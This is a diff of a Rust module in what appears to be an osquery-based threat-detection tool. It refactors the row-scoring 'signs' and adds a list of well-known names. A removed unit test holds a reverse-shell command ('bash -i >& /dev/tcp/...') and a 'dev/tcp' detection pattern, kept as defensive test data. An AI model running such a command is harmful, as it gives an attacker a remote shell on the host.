@@ -1,8 +1,10 @@
 //! What is known beforehand of osquery's tables: which columns say what a row is about, which mean nothing, and
 //! what makes a row dangerous. The data is `model/tables/tables.json`; a pack's annotations beat it.
 
+mod sign;
 mod sql;
 
+pub use sign::{Condition, Sign, Test};
 pub use sql::tables as tables_of;
 
 use crate::name::{ColumnName, TableName};
@@ -17,55 +19,6 @@ const TABLES: &str = include_str!("../../tables/tables.json");
 #[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
 #[serde(transparent)]
 pub struct Attack(pub String);
-
-/// Something about a row that makes a difference in it worth more.
-#[derive(Clone, Debug, PartialEq, Deserialize)]
-pub struct Sign {
-    /// The column that is looked at.
-    pub column: ColumnName,
-    /// What its value must be.
-    #[serde(flatten)]
-    pub test: Test,
-    /// How many bits it adds to the row's score.
-    pub bits: f64,
-    /// Whether it speaks of rows that are not there; if not, of rows that are.
-    #[serde(default)]
-    pub missing: bool,
-    /// What it means, to go on a sentence: "its binary is deleted".
-    pub say: String,
-    /// The ATT&CK techniques that it speaks for.
-    #[serde(default)]
-    pub attack: Vec<Attack>,
-}
-
-/// A test of one value.
-#[derive(Clone, Debug, PartialEq, Deserialize)]
-#[serde(rename_all = "snake_case")]
-pub enum Test {
-    /// It is one of these.
-    Is(Vec<String>),
-    /// It is none of these, and not empty.
-    IsNot(Vec<String>),
-    /// It starts with one of these.
-    StartsWith(Vec<String>),
-    /// It contains one of these.
-    Contains(Vec<String>),
-}
-
-impl Test {
-    /// Whether a value passes.
-    pub fn holds(&self, value: &[u8]) -> bool {
-        let any = |list: &[String], f: &dyn Fn(&[u8]) -> bool| list.iter().any(|item| f(item.as_bytes()));
-        match self {
-            Self::Is(list) => any(list, &|item| value == item),
-            Self::IsNot(list) => !value.is_empty() && !any(list, &|item| value == item),
-            Self::StartsWith(list) => any(list, &|item| value.starts_with(item)),
-            Self::Contains(list) => {
-                any(list, &|item| !item.is_empty() && value.windows(item.len()).any(|part| part == item))
-            }
-        }
-    }
-}
 
 /// What is known of the rows of one query.
 #[derive(Clone, Debug, Default, PartialEq)]
@@ -84,6 +37,8 @@ pub struct Knowledge {
     pub attack: Vec<Attack>,
     /// What makes a row dangerous.
     pub signs: Vec<Sign>,
+    /// Names that impostors come near to, whether the hosts have them or not.
+    pub well_known: Vec<String>,
 }
 
 #[derive(Clone, Debug, Default, Deserialize)]
@@ -96,13 +51,14 @@ struct Table {
     weight: f64,
     attack: Vec<Attack>,
     signs: Vec<Sign>,
+    well_known: Vec<String>,
 }
 
 impl Table {
     /// The columns that are spoken of, some more than once.
     fn mentions(&self) -> impl Iterator<Item = &ColumnName> {
         let own = self.volatile.iter().filter(|column| !EVERYWHERE.contains(&column.as_str()));
-        self.key.iter().chain(own).chain(self.signs.iter().map(|sign| &sign.column))
+        self.key.iter().chain(own).chain(self.signs.iter().map(|sign| &sign.when.column))
     }
 }
 
@@ -210,6 +166,7 @@ impl Tables {
             weight: said.weight.or_else(|| first.map(|t| t.weight)).unwrap_or_default(),
             attack: said.attack.clone().or_else(|| first.map(|t| t.attack.clone())).unwrap_or_default(),
             signs: said.signs.clone().or_else(|| first.map(|t| t.signs.clone())).unwrap_or_default(),
+            well_known: first.map(|t| t.well_known.clone()).unwrap_or_default(),
         }
     }
 }
@@ -246,14 +203,5 @@ mod tests {
         assert!(known.volatile.is_empty());
         assert_eq!(known.weight, 9.0);
         assert_eq!(known.noun, "user");
-    }
-
-    #[test]
-    fn tests_of_values() {
-        let list = |items: &[&str]| items.iter().map(|&item| item.to_owned()).collect();
-        assert!(Test::Contains(list(&["/../", "dev/tcp"])).holds(b"bash -i >& /dev/tcp/1.2.3.4/1"));
-        assert!(!Test::Contains(list(&[""])).holds(b"x"));
-        assert!(Test::IsNot(list(&["127.0.0.1"])).holds(b"0.0.0.0"));
-        assert!(!Test::IsNot(list(&["127.0.0.1"])).holds(b""));
     }
 }
